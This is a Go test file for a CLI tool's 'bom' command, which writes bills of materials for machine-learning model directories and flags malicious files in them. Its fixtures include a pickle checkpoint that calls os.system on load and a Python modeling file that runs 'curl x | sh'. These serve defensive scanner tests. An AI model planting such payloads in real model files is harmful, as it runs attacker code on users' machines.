package cli

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/aigis-dev/aigis/internal/testutil"
	"github.com/aigis-dev/aigis/internal/testutil/cdxschema"
	"github.com/aigis-dev/aigis/internal/testutil/pkl"
)

// A model directory with a malicious checkpoint, a card and a config.
func evilModel(t *testing.T) string {
	dir := t.TempDir()
	files := map[string][]byte{
		"README.md":   []byte("---\nlicense: llama3\nbase_model: meta-llama/Meta-Llama-3-8B\n---\n# evil\n"),
		"config.json": []byte(`{"model_type": "llama", "architectures": ["LlamaForCausalLM"], "hidden_size": 16}`),
		"pytorch_model.bin": testutil.TorchZip(t, "archive",
			pkl.New(2).Global("os", "system").Str("id").Tuple1().Reduce().Stop().Bytes(), 0, 0),
	}
	for name, b := range files {
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func TestBom_ReproducibleBytes(t *testing.T) {
	dir := testutil.Shared(t, "corpus", "repos", "tiny-bert")
	env := map[string]string{"SOURCE_DATE_EPOCH": "1700000000"}
	for _, o := range []string{"cyclonedx-json", "spdx-json"} {
		a := runCLI(t, env, "bom", "-o", o, dir)
		b := runCLI(t, env, "bom", "-o", o, dir)
		if a.code != 0 || a.stdout != b.stdout {
			t.Errorf("%s: runs differ or failed (exit %d): %s", o, a.code, a.stderr)
		}
		if !strings.Contains(a.stdout, "2023-11-14T22:13:20Z") {
			t.Errorf("%s: timestamp not pinned", o)
		}
	}
	// Without a pinned time the serial is random.
	a, b := runCLI(t, nil, "bom", "-o", "cyclonedx-json", dir), runCLI(t, nil, "bom", "-o", "cyclonedx-json", dir)
	if serial(t, a.stdout) == serial(t, b.stdout) {
		t.Error("two unpinned runs have the same serial")
	}
	p := runCLI(t, nil, "bom", "-o", "cyclonedx-json", "--serial", "01234567-89ab-4def-8123-456789abcdef", "--timestamp", "2026-01-01T00:00:00Z", dir)
	if serial(t, p.stdout) != "urn:uuid:01234567-89ab-4def-8123-456789abcdef" {
		t.Errorf("--serial ignored")
	}
}

func serial(t *testing.T, s string) string {
	var m struct {
		SerialNumber string `json:"serialNumber"`
	}
	if err := json.Unmarshal([]byte(s), &m); err != nil {
		t.Fatal(err)
	}
	return m.SerialNumber
}

func TestBom_ScanEmbedsFindings(t *testing.T) {
	dir := evilModel(t)
	r := runCLI(t, nil, "bom", "-o", "cyclonedx-json", "--scan", "--spec-version", "1.7", dir)
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	cdxschema.Validate(t, "1.7", []byte(r.stdout))
	var doc struct {
		Vulnerabilities []struct {
			ID      string `json:"id"`
			Affects []struct {
				Ref string `json:"ref"`
			} `json:"affects"`
			Ratings []struct {
				Severity string `json:"severity"`
			} `json:"ratings"`
		} `json:"vulnerabilities"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &doc); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, v := range doc.Vulnerabilities {
		if v.Affects[0].Ref == "file:pytorch_model.bin" && v.Ratings[0].Severity == "critical" {
			found = true
		}
	}
	if !found {
		t.Errorf("no critical finding on pytorch_model.bin: %+v", doc.Vulnerabilities)
	}
	if r := runCLI(t, nil, "bom", "--scan", "--fail-on", "high", dir); r.code != ExitFindings {
		t.Errorf("--fail-on high with a malicious file: exit %d", r.code)
	}
	if r := runCLI(t, nil, "bom", "--fail-on", "high", dir); r.code != ExitOK {
		t.Errorf("without --scan there is nothing to fail on: exit %d", r.code)
	}
	spdxOut := runCLI(t, nil, "bom", "-o", "spdx-json", "--scan", dir)
	if !strings.Contains(spdxOut.stdout, `"annotationType": "review"`) || !strings.Contains(spdxOut.stdout, "aigis scan verdict: malicious") {
		t.Error("SPDX output lacks the scan annotations")
	}
}

func TestBom_TableAndNoHash(t *testing.T) {
	dir := evilModel(t)
	r := runCLI(t, nil, "bom", "--no-hash", dir)
	for _, want := range []string{"completeness of model", "missing (critical) hashes", "restrictive licence: model", "LicenseRef-llama3", "hashes omitted"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("table lacks %q:\n%s", want, r.stdout)
		}
	}
	c := runCLI(t, nil, "bom", "-o", "cyclonedx-json", "--no-hash", dir)
	if strings.Contains(c.stdout, `"hashes"`) {
		t.Error("--no-hash output has hashes")
	}
}

func TestBom_Usage(t *testing.T) {
	dir := t.TempDir()
	for _, args := range [][]string{
		{"bom", "-o", "xml", dir},
		{"bom", "--spec-version", "1.4", dir},
		{"bom", "--serial", "nope", dir},
		{"bom", "--timestamp", "yesterday", dir},
		{"bom", filepath.Join(dir, "missing")},
		{"bom"},
	} {
		if r := runCLI(t, nil, args...); r.code != ExitError {
			t.Errorf("%v: exit %d, want 2", args, r.code)
		}
	}
}

// bom --scan judges files with the same engine as scan: the modeling code
// an auto_map repository imports is malicious in both (it used to be clean
// in the BOM, which scanned without the repository analysers).
func TestBom_ScanUsesTheWholeEngine(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "config.json"), []byte(`{"model_type": "evil", "auto_map": {"AutoModel": "modeling_evil.EvilModel"}}`), 0o644)
	write(t, filepath.Join(dir, "modeling_evil.py"), []byte("import os\nos.system('curl x | sh')\nclass EvilModel: pass\n"), 0o644)
	write(t, filepath.Join(dir, "model.safetensors"), testutil.SafetensorsModel(nil, testutil.STensor{Name: "w", Shape: []int64{2}, Data: make([]byte, 8)}), 0o644)
	s := runCLI(t, nil, "scan", "-o", "json", dir)
	if s.code != ExitFindings || !strings.Contains(s.stdout, `"python-sink-on-load"`) {
		t.Fatalf("scan: exit %d\n%s", s.code, s.stdout)
	}
	r := runCLI(t, nil, "bom", "--scan", "--fail-on", "high", "-o", "cyclonedx-json", dir)
	if r.code != ExitFindings {
		t.Errorf("bom --scan --fail-on high: exit %d, want 1", r.code)
	}
	if !strings.Contains(r.stdout, "python-sink-on-load") {
		t.Errorf("the BOM does not carry the modeling code's finding:\n%s", r.stdout)
	}
}

// Several paths make one BOM rooted at the directory they share, holding
// only what is under them; --allow-symlinks describes links as the files
// they lead to (a Hugging Face snapshot), and without it they are left
// out with a warning on stderr.
func TestBom_SeveralPathsAndLinks(t *testing.T) {
	top := t.TempDir()
	write(t, filepath.Join(top, "models", "bert", "config.json"), []byte(`{"model_type": "bert", "architectures": ["BertModel"]}`), 0o644)
	write(t, filepath.Join(top, "models", "bert", "model.safetensors"), testutil.SafetensorsModel(nil, testutil.STensor{Name: "w", Shape: []int64{4}, Data: make([]byte, 16)}), 0o644)
	write(t, filepath.Join(top, "data", "requirements.txt"), []byte("numpy==1.26.4\n"), 0o644)
	write(t, filepath.Join(top, "other", "secret.txt"), []byte("not part of the BOM"), 0o644)
	r := runCLI(t, nil, "bom", "-o", "cyclonedx-json", filepath.Join(top, "models", "bert"), filepath.Join(top, "data", "requirements.txt"))
	if r.code != ExitOK || !strings.Contains(r.stdout, "models/bert/model.safetensors") || !strings.Contains(r.stdout, "pkg:pypi/numpy@1.26.4") || strings.Contains(r.stdout, "secret.txt") {
		t.Fatalf("several paths: exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	cache := filepath.Join(t.TempDir(), "models--org--m")
	write(t, filepath.Join(cache, "blobs", "aaa"), testutil.SafetensorsModel(nil, testutil.STensor{Name: "w", Shape: []int64{4}, Data: make([]byte, 16)}), 0o644)
	write(t, filepath.Join(cache, "blobs", "bbb"), []byte(`{"model_type": "gpt2", "architectures": ["GPT2LMHeadModel"]}`), 0o644)
	snap := filepath.Join(cache, "snapshots", "r1")
	os.MkdirAll(snap, 0o755)
	os.Symlink("../../blobs/aaa", filepath.Join(snap, "model.safetensors"))
	os.Symlink("../../blobs/bbb", filepath.Join(snap, "config.json"))
	r = runCLI(t, nil, "bom", "-o", "cyclonedx-json", snap)
	if strings.Contains(r.stdout, `"name": "model.safetensors"`) || !strings.Contains(r.stderr, "--allow-symlinks") {
		t.Errorf("links without --allow-symlinks: %s\n%s", r.stdout, r.stderr)
	}
	r = runCLI(t, nil, "bom", "-o", "cyclonedx-json", "--allow-symlinks", snap)
	if r.code != ExitOK || !strings.Contains(r.stdout, `"model.safetensors"`) || !strings.Contains(r.stdout, "GPT2LMHeadModel") {
		t.Errorf("--allow-symlinks: exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
}
